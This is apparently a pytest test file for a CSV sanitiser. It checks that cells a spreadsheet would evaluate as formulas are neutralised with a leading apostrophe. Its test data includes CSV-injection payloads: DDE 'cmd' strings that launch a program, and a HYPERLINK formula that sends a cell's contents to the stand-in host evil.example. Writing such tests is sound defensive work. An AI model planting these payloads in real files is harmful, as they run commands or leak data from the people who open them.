from __future__ import annotations

import csv
import io

import pytest

from homecheck.csv_safe import row, safe


@pytest.mark.parametrize(
    "attack",
    [
        "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "\t=1+1", "\r=1+1", "  =1+1", "\n=1+1", "＝1+1",
        "+46 8 123 456 78",
    ],
)  # fmt: skip
def test_what_a_spreadsheet_would_calculate_gets_an_apostrophe(attack: str) -> None:
    assert safe(attack) == f"'{attack}"


@pytest.mark.parametrize("text", ["Åsa Öberg", "O'Neil", "a=b", "1-2", "", "x@example.com", "2026-11-26"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert safe(text) == text


def test_numbers_and_answers_are_no_texts() -> None:
    assert [safe(cell) for cell in (-52.1, 3, 1e-05, True, False, None)] == ["-52.1", "3", "1e-05", "yes", "no", ""]


def test_a_line_is_read_back_by_another_reader_of_csv_whatever_is_in_it() -> None:
    cells = ['with "quotes"', "with, comma", "with\r\nline", "ü", "=1", None]
    line = row(cells)
    assert line.endswith("\r\n")
    assert next(csv.reader(io.StringIO(line, newline=""))) == [
        'with "quotes"', "with, comma", "with\r\nline", "ü", "'=1", "",
    ]  # fmt: skip
